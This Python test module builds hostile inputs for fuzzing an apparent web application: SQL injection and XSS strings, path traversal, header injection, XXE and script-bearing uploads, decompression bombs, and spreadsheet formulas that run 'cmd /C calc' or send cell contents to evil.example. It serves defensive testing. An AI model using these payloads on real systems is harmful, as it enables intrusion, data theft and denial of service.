"""What strangers send: values, bodies, files, addresses and cells made to break whoever reads them. All made on the spot."""

import json
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache
from urllib.parse import quote, urlencode

from PIL import Image, PngImagePlugin

from tests.core.pictures import encoded, huge_png, jpeg, photograph, webp_header

# ---- values, as they stand in JSON ----

NUMBERS = [
    *("0", "-0", "-1", "1", "32768", "-32769", "2147483648", "-2147483649"),
    *("9223372036854775807", "9223372036854775808", "-9223372036854775808", "-9223372036854775809"),
    *("18446744073709551616", "1e400", "-1e400", "1e-400", "1e308", "1E+999999999", "0.1e1"),
    *("0.30000000000000004", "1" * 4301, "1" * 60_000, "0." + "1" * 5000, "1e5", "12.345678901"),
    *("NaN", "Infinity", "-Infinity", "nan", "0x10", "1_000", "01", "+1", ".5", "5."),
]
TEXTS = [
    *("", " ", "\t\n", "\0", "a\0b", "\x1b[31m", "\x7f", "\ufeff", "\u202e", "\u200b", "\ufffe"),
    *("\U0010ffff", "👩‍👩‍👧‍👦" * 50, "é" * 500, "Z͑ͫ̓" * 200, "王" * 5000, "x" * 200_000),
    *("null", "None", "undefined", "true", "NaN", "Infinity", "sNaN", "-0", "1e400", "1e-400"),
    *("９", "½", "٣", "𝟗", "²", "0x1f", "1_000", "1,5", "1" * 4301, "-" * 100, "٠٫٥"),
    *("' OR 1=1 --", "'; DROP TABLE core_user; --", '" onload="x', "<script>alert(1)</script>"),
    *("{{ 7*7 }}", "{% debug %}", "${7*7}", "%s%s%n", "%(x)s", "{0}", "{x.__class__}", "\\", "\\0"),
    *("../../etc/passwd", "..\\..\\x", "/dev/null", "file:///etc/passwd", "//evil.example/", "%00"),
    *("%", "%zz", "a%2fb", "?x=1&x=2", "a;b", "a\r\nSet-Cookie: x=1", "=cmd|' /C calc'!A0"),
    *("-----BEGIN", "O'Hara", "CON", "aux.txt", "a" * 64 + "@" + "b" * 300, "+86" + "1" * 60),
]
MOMENTS = [
    *("0001-01-01", "9999-12-31", "0000-01-01", "10000-01-01", "-0001-01-01", "2026-02-30"),
    *("2026-13-01", "2026-00-10", "2024-02-29", "2026-W01-1", "20261123", "23.11.2026", "2026-1-1"),
    *("0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+08:00"),
    *("9999-12-31T23:59:59.999999-12:00", "2026-11-23T24:00:00Z", "2026-11-23T10:00:60+08:00"),
    *(
        "2026-11-23T10:00:00+99:99",
        "2026-11-23T10:00:00",
        "2026-11-23 10:00",
        "1970-01-01T00:00:00Z",
    ),
    *("1e10", "253402300800", "-62135596801", "now", "P1D", "2026-11-23T10:00:00.1234567890123Z"),
    *(
        "1900-01-01T00:00:00+08:05:43",
        "1883-11-18T12:00:00Z",
        "24:00",
        "12:60",
        "-1:00",
        "25:61:61",
    ),
]
UUIDS = [
    *("00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff"),
    *("{00000000-0000-4000-8000-000000000001}", "urn:uuid:00000000-0000-4000-8000-000000000001"),
    *("00000000000040008000000000000001", "zzzzzzzz-0000-4000-8000-000000000001", "0" * 31),
]
OTHERS = [
    *("null", "true", "false", "[]", "{}", "[[]]", "[null]", "[{}]", '{"a": null}', '{"": ""}'),
    *('[1, "a", null, {}]', '{"value": 1e400, "unit": "ml"}', '{"value": "x", "unit": null}'),
    *('{"value": -1, "unit": "ml"}', '{"value": 9223372036854775808, "unit": "ml"}'),
    *(
        '{"__proto__": {}}',
        '{"$ne": 1}',
        '{"pk__gt": 0}',
        "[" * 20 + "]" * 20,
        '{"a":' * 25 + "1" + "}" * 25,
    ),
    "[" + ",".join(["0"] * 5000) + "]",
    "{" + ",".join(f'"k{n}": {n}' for n in range(2000)) + "}",
    '"\\ud800"',
    '"\\udfff\\ud800"',
    '"\\u0000"',
    '"a\\u0000b"',
    '"\\ud83d\\ude00"',
]


def values() -> list[str]:
    """JSON pieces; some of the numbers are not JSON at all, which is the point."""
    return [*NUMBERS, *OTHERS, *(json.dumps(text) for text in (*TEXTS, *MOMENTS, *UUIDS))]


# ---- bodies ----


@dataclass(frozen=True)
class Body:
    name: str
    data: bytes
    kind: str = "application/json"
    headers: dict[str, str] = field(default_factory=dict)


NAMES = (
    *("id", "child", "kind", "at", "detail", "replaces", "void", "reason", "entries"),
    *("temperature", "findings", "action", "note", "checked_at", "checked_time", "absence"),
    *("measured_on", "weight_kg", "length_cm", "head_cm", "measure", "item", "answer"),
    *(
        "username",
        "password",
        "post",
        "next",
        "language",
        "label",
        "icon",
        "fields",
        "code",
        "active",
    ),
    *("name", "sex", "born_on", "class_group", "starts_on", "resident_id", "identity", "document"),
    *("substance", "reaction", "severity", "purpose", "since", "membership", "certificate_type"),
    *("number", "issued_on", "valid_until", "issuer", "title", "hours", "trained_on", "day"),
    *("actor", "institution", "subject", "before", "after", "start", "end", "phone", "relation"),
)


LONG = 20_000
OF_LONG = ("name", "note", "label", "reason")  # under every name it would only be too large


def _everywhere(value: str) -> bytes:
    """The value under every name that any form or endpoint reads."""
    names = OF_LONG if len(value) > LONG else NAMES
    members = ", ".join(f'"{name}": {value}' for name in names if name != "entries")
    return f'{{{members}, "entries": [{{{members}}}]}}'.encode("utf-8", "surrogatepass")


def _form(value: str) -> bytes:
    try:
        text = str(json.loads(value))
    except (ValueError, RecursionError):
        text = value
    text = text.encode("utf-8", "surrogatepass").decode("latin-1")
    names = OF_LONG if len(value) > LONG else NAMES
    return "&".join(f"{name}={quote(text, encoding='latin-1')}" for name in names).encode()


FORM = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=XX"
RAW = [
    *(b"", b" ", b"{", b"}", b"[", b"nul", b"\x00", b"\xff\xfe", b"\xef\xbb\xbf{}", b'{"a":1,}'),
    *(b"{'a': 1}", b'{"a": 1} x', b'{"a": 1}{"a": 2}', b'{"a": "\xed\xa0\x80"}', b'"text"', b"7"),
    *(b'{"a": "\x01"}', b"{\xc0\xae}", "{}".encode("utf-16"), "{}".encode("utf-32"), b"/* x */ {}"),
    *(b"[" * 100_000, b'{"a":' * 100_000, b"[" * 100_000 + b"]" * 100_000, b'"' + b"\\" * 100_001),
    *(b'{"a": "' + b"x" * 3_000_000 + b'"}', b'{"entries": []}', b'{"entries": [[]]}'),
    *(
        b'{"entries": ' + b"[" * 31 + b"]" * 31 + b"}",
        b'{"entries": {"a": 1}}',
        b'{"a": 1, "a": 2}',
    ),
    b'{"entries": [' + b",".join([b"{}"] * 5000) + b"]}",
]
KINDS = [
    *("application/json; charset=utf-16", "application/json; charset=x-none", "application/xml"),
    *("application/json;charset=\xff", "text/plain", "text/html", "", "/", "a/b/c", "*/*"),
    *(
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=a\0b",
    ),
    *(
        "multipart/form-data; boundary=" + "x" * 300,
        "multipart/mixed; boundary=XX",
        FORM + ";charset=utf-7",
    ),
    *(
        "application/json" + ";a=b" * 500,
        "APPLICATION/JSON",
        "application/octet-stream",
        "image/jpeg",
    ),
]
PARTS = [
    b"",
    b"--XX",
    b"--XX--",
    b"--XX\r\n\r\n",
    b"--XX\r\nContent-Disposition: form-data\r\n\r\nx\r\n--XX--",
    b'--XX\r\nContent-Disposition: form-data; name="file"; filename="../../x.jpg"\r\n\r\nx\r\n--XX--',
    b'--XX\r\nContent-Disposition: form-data; name="file"; filename="a\0b"\r\n\r\nx\r\n--XX--',
    b"--XX\r\nContent-Disposition: form-data; name=\"file\"; filename*=utf-8''%ff%00\r\n\r\nx\r\n--XX--",
    b'--XX\r\nContent-Disposition: form-data; name="file"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!\r\n--XX--',
    b'--XX\r\nContent-Disposition: form-data; name="child"\r\nContent-Type: x; charset=none\r\n\r\n\xff\r\n--XX--',
    b"".join(
        b'--XX\r\nContent-Disposition: form-data; name="f%d"\r\n\r\n1\r\n' % n for n in range(2100)
    )
    + b"--XX--",
    b"".join(
        b'--XX\r\nContent-Disposition: form-data; name="f%d"; filename="x"\r\n\r\n1\r\n' % n
        for n in range(120)
    )
    + b"--XX--",
]
HEADERS = [
    {"X-Post": "\0"},
    {"X-Post": "x" * 5000},
    {"X-Post": "institution-99999999999999999999"},
    {"Authorization": "Token"},
    {"Authorization": "Token \xff"},
    {"Authorization": "Token a b"},
    {"Authorization": "Basic !!!"},
    {"Authorization": "Bearer " + "x" * 8000},
    {"Accept": "application/xml"},
    {"Accept": "*/*;q=x, " * 200},
    {"Accept-Language": "x" * 5000},
    {"Accept-Language": "zh-hans;q=1e400, \0"},
    {"Cookie": "sessionid=\0; language=../../x"},
    {"Cookie": "sessionid=" + "x" * 4000 + "; csrftoken=;;;="},
    {"Cookie": "language=" + "z" * 3000},
    {"HX-Request": "true", "HX-Target": "x#../../etc"},
    {"HX-Request": "true", "HX-Target": "div#" + "a" * 3000},
    {"HX-Request": "true", "HX-Target": "x#base", "HX-Boosted": "1"},
    {"HX-Request": "true", "HX-Current-URL": "http://[::1", "HX-Current-URL-URI-AutoEncoded": "1"},
    {"X-Request-ID": "x" * 5000},
    {"X-Request-ID": "\0\r\n"},
    {"X-Forwarded-For": "' OR 1=1, ::ffff:999.1.1.1, x"},
    {"X-Forwarded-Proto": "https,http"},
    {"Idempotency-Key": "x" * 5000},
    {"Idempotency-Key": "\0"},
    {"Range": "bytes=0-,5-,-1"},
    {"If-Modified-Since": "Mon, 99 Foo 10000 99:99:99 GMT"},
    {"If-None-Match": '"' * 1000},
    {"Content-Encoding": "gzip"},
    {"X-HTTP-Method-Override": "DELETE"},
    {"Referer": "http://[", "Origin": "null"},
    {"Host": "evil.example"},
    {"Host": "a b\0"},
]


@cache
def bodies() -> tuple[Body, ...]:
    """More than three hundred. Made once: some are large."""
    return tuple(_bodies())


def _bodies() -> Iterator[Body]:
    for number, value in enumerate(values()):
        yield Body(f"value {number} as JSON", _everywhere(value))
        yield Body(f"value {number} as form", _form(value), FORM)
    for number, raw in enumerate(RAW):
        yield Body(f"raw {number}", raw)
    for number, raw in enumerate(RAW[:16]):
        yield Body(f"raw {number} as form", raw, FORM)
    for number, kind in enumerate(KINDS):
        yield Body(f"kind {number}", b'{"a": 1}', kind)
    for number, part in enumerate(PARTS):
        yield Body(f"part {number}", part, MULTIPART)
    for number, headers in enumerate(HEADERS):
        yield Body(f"header {number}", b"{}", headers=headers)
    yield Body("many fields", urlencode([(f"f{n}", n) for n in range(2100)]).encode(), FORM)


METHODS = (
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "QUERY",
    "X" * 40,
)


@cache
def queries() -> tuple[str, ...]:
    """Query strings under every name that a list, a filter or a cursor reads."""
    return tuple(_queries())


def _queries() -> Iterator[str]:
    names = (
        *NAMES,
        "page",
        "page_size",
        "cursor",
        "q",
        "sort",
        "region",
        "county",
        "form",
        "status",
    )
    names += (
        "outcome",
        "action",
        "subject_type",
        "class_group",
        "standard",
        "level",
        "parent",
        "state",
    )
    for text in (*TEXTS, *MOMENTS, *UUIDS, *NUMBERS):
        if len(text) < 3000:
            raw = text.encode("utf-8", "surrogatepass")
            yield "&".join(f"{name}={quote(raw)}" for name in names)
    yield from (
        "%ff=%ff",
        "a[]=1&a[0]=2",
        "&&&",
        "=",
        "%",
        "page_size=-1",
        "page_size=99999999999999999999",
    )
    yield from (
        "cursor=cD0x",
        "cursor=" + quote("cD0yMDI2LTAy"),
        "cursor=%00",
        "format=xml",
        "_method=DELETE",
    )


# ---- files ----


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + b"".join(chunks) + _chunk(b"IEND", b"")


def _exif(**_none) -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x010E] = "MAKER-SECRET", "DESCRIPTION-SECRET"
    exif[0x8825] = {1: "N", 2: (35.0, 24.0, 0.0), 3: "E", 4: (116.0, 34.0, 0.0)}
    return exif.tobytes()


TAILS = {
    "zip": b"PK\x03\x04" + bytes(26) + b"SECRET",
    "html": b"<html><script>SECRET</script>",
    "php": b"<?php system('SECRET'); ?>",
    "js": b"*/=1;alert('SECRET')/*",
    "pdf": b"%PDF-1.7\nSECRET",
    "jar": b"PK\x05\x06" + b"SECRET" + bytes(18),
    "shell": b"\n#!/bin/sh\necho SECRET\n",
    "jpeg": jpeg() + b"SECRET",
}
NOT_PICTURES = {
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "svg with entity": b"<?xml version='1.0'?><!DOCTYPE s [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
    "html": b"<!doctype html><script>alert(1)</script>",
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(%pipe%id) (r) file",
    "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
    "exe": b"MZ" + bytes(60),
    "zip": b"PK\x03\x04" + bytes(60),
    "gzip": zlib.compress(b"a" * 10_000),
    "tar": b"x" + bytes(99) + b"0000644" + bytes(400),
    "mvg": b"push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://evil.example/)'\npop graphic-context",
    "xbm": b"#define x_width 9999\n#define x_height 9999\nstatic char x[] = {0};",
    "ppm": b"P6\n60000 60000\n255\n",
    "fli": b"\x00\x00\x00\x00\x11\xaf\x01\x00\xff\xff\xff\xff" + bytes(120),
    "psd": b"8BPS\x00\x01" + bytes(6) + b"\x00\x03\x00\x00\xff\xff\x00\x00\xff\xff\x00\x08\x00\x03",
    "ico": b"\x00\x00\x01\x00\x01\x00\x00\x00\x00\x00\x01\x00\x20\x00\xff\xff\xff\xff\x16\x00\x00\x00",
    "jp2": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(40),
    "avif": b"\x00\x00\x00\x1cftypavif" + bytes(40),
    "mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(40),
    "empty": b"",
    "text": "午餐吃了什么".encode(),
}


def files() -> Iterator[tuple[str, bytes]]:
    """More than three hundred, of few kilobytes each."""
    yield from NOT_PICTURES.items()
    photo = photograph((320, 240))
    good = {kind: encoded(photo, kind) for kind in ("JPEG", "PNG", "WEBP")}
    for kind, data in good.items():
        yield from ((f"{kind} with a tail of {name}", data + tail) for name, tail in TAILS.items())
        yield from ((f"{name} before {kind}", tail + data) for name, tail in TAILS.items())
        for at in range(1, 24):
            yield f"{kind} cut at {at}/24", data[: len(data) * at // 24]
        for at in range(0, 48, 2):
            yield (
                f"{kind} with byte {at} turned",
                data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :],
            )
        for at in range(1, 18):
            place = len(data) * at // 18
            yield f"{kind} with a hole at {at}/18", data[:place] + bytes(40) + data[place + 40 :]
    for kind in ("GIF", "BMP", "TIFF", "PPM", "ICO", "TGA", "PCX", "SGI", "DIB", "MPO"):
        yield f"{kind}", encoded(photo, kind)
    yield from _with_secrets(photo)
    yield from _too_large()
    yield from _animated()


def _with_secrets(photo: Image.Image) -> Iterator[tuple[str, bytes]]:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", "SECRET")
    notes.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>SECRET</x:xmpmeta>")
    yield "JPEG with place and maker", encoded(photo, "JPEG", exif=_exif())
    yield "PNG with place and maker", encoded(photo, "PNG", exif=_exif())
    yield "WEBP with place and maker", encoded(photo, "WEBP", exif=_exif())
    yield "JPEG with comment", encoded(photo, "JPEG", comment=b"SECRET<script>")
    yield "JPEG with profile", encoded(photo, "JPEG", icc_profile=b"SECRET" * 30)
    yield "PNG with text", encoded(photo, "PNG", pnginfo=notes)
    yield (
        "PNG with a huge text",
        _png(8, 8, _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(80_000_000), 9))),
    )
    yield (
        "PNG with a huge profile",
        _png(8, 8, _chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(60_000_000), 9))),
    )
    yield (
        "JPEG with broken EXIF",
        encoded(photo, "JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\xff\xff" + b"\x01\x12" * 40),
    )


def _too_large() -> Iterator[tuple[str, bytes]]:
    yield "PNG of 200 million pixels", huge_png()
    for side in (5001, 8000, 20_000, 65_535, 2**31 - 1, 2**32 - 1):
        yield (
            f"PNG header of {side} squared",
            _png(side, side, _chunk(b"IDAT", zlib.compress(bytes(1000)))),
        )
        yield (
            f"PNG header of {side} by 1",
            _png(side, 1, _chunk(b"IDAT", zlib.compress(bytes(1000)))),
        )
    for kind in (b"VP8X", b"VP8L", b"VP8 "):
        for side in (1, 5001, 16_000):
            yield f"WEBP header {kind.decode()} of {side}", webp_header(kind, side, side)
    start = jpeg((64, 64))
    frame = start.index(b"\xff\xc0")
    for width, height in ((65_535, 65_535), (65_535, 1), (0, 0), (6000, 6000)):
        yield (
            f"JPEG header {width} by {height}",
            start[: frame + 5] + struct.pack(">HH", height, width) + start[frame + 9 :],
        )
    yield (
        "PNG of 24 million pixels, 16 bits",
        encoded(Image.new("I;16", (6000, 4000), 7), "PNG", compress_level=9),
    )
    yield (
        "PNG of 24 million clear pixels",
        encoded(Image.new("RGBA", (6000, 4000)), "PNG", compress_level=9),
    )
    yield "PNG with a short body", _png(3000, 3000, _chunk(b"IDAT", zlib.compress(bytes(10))))
    yield (
        "PNG with an endless body",
        _png(10, 10, _chunk(b"IDAT", zlib.compress(bytes(90_000_000), 9))),
    )
    yield (
        "JPEG of many scans",
        start[:-2] + start[start.index(b"\xff\xda") : -2] * 2000 + b"\xff\xd9",
    )


def _animated() -> Iterator[tuple[str, bytes]]:
    frames = [Image.new("RGB", (60, 60), (n, n, n)) for n in range(40)]
    for kind in ("WEBP", "PNG", "GIF"):
        yield (
            f"{kind} of 40 frames",
            encoded(frames[0], kind, save_all=True, append_images=frames[1:]),
        )


# ---- cells ----

SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%0A=", "＝", "＋", "－", "＠", "﹦")
BEFORE = ("", " ", "'", '"', "\u3000", "\x00", " \t'")
FORMULAS = [
    *(f"{before}{sign}SUM(1)" for sign in SIGNS for before in BEFORE),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=WEBSERVICE("https://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+861380537=1",
]
